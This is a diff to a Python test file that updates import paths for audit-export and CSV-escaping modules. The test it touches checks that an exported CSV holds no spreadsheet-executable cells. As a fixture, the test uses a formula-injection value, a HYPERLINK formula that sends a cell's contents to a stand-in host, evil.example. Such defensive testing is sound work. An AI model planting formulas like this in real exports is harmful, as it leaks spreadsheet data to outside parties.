@@ -9,7 +9,7 @@ from datetime import timedelta
 
 import pytest
 
-from doctordesk.services.admin_audit import EXPORT_BATCH
+from doctordesk.services.admin.audit import EXPORT_BATCH
 from doctordesk.services.audit import audit
 from tests.support.errors import assert_error
 
@@ -133,7 +133,7 @@ async def test_administrative_changes_appear_in_the_trail_with_before_and_after(
 
 
 async def test_the_csv_export_has_no_cell_a_spreadsheet_would_run_and_reads_back_exactly(client, login, runtime):
-    from doctordesk.domain.csv_cells import FORMULA_STARTS, restore
+    from doctordesk.domain.transfer.csv_cells import FORMULA_STARTS, restore
 
     admin = await login("admin")
     name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
